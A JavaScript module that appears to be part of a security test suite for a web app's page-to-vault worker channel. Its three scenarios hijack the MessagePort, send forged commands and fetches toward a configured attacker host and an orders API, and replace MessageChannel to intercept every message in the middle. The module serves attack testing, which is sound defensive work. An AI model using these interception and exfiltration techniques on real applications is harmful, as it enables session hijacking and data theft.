// The port between the page and its vault.
import { wait } from '../kit.mjs';
import { appPort, fetchTo, forged, openOptions, withOwnServer } from '../wire.mjs';

export const ports = [
  {
    id: 'worker-port',
    title: 'takes the port between page and vault, and sends forged commands, answers and cancellations on it',
    when: 'after',
    async run(context) {
      const { record, config, victim } = context;
      const port = await appPort(context);
      if (!port) return;
      port.addEventListener('message', ({ data }) => record(data));
      for (const message of forged()) port.postMessage(message);
      for (const url of [config.attacker, `${config.api}orders`, `${config.issuer}/me`]) {
        port.postMessage([{ command: { id: 900, command: fetchTo(url) } }]);
      }
      await victim();
      await wait(100);
    },
    disturbs: true,
  },
  {
    id: 'worker-port-reopen',
    title: 'takes the port, opens the session anew on it with its own server among the APIs, and fetches from there',
    when: 'after',
    async run(context) {
      const { record, config } = context;
      const wire = await openOptions(context);
      const port = await appPort(context);
      if (!port) return;
      port.addEventListener('message', ({ data }) => record(data));
      port.postMessage([{ command: { id: 900, command: { open: withOwnServer(wire, config) } } }]);
      port.postMessage([{ command: { id: 901, command: fetchTo(config.attacker) } }]);
      await wait(400);
    },
    disturbs: true,
  },
  {
    id: 'worker-port-steal',
    title: 'replaces MessageChannel, so that the vault is given the attacker’s port, and stands in the middle',
    when: 'both',
    async run({ hooks, victim, record }) {
      const Original = MessageChannel;
      hooks.replace(window, 'MessageChannel', {
        writable: true,
        value: class {
          constructor() {
            const [near, far] = [new Original(), new Original()];
            const pass = (from, to) => {
              from.onmessage = ({ data }) => {
                record(data);
                const body = data?.[1];
                const moves = body instanceof ReadableStream || body instanceof ArrayBuffer ? [body] : [];
                to.postMessage(data, moves);
              };
            };
            pass(near.port2, far.port1);
            pass(far.port1, near.port2);
            this.port1 = near.port1;
            this.port2 = far.port2;
          }
        },
      });
      await victim();
    },
  },
];
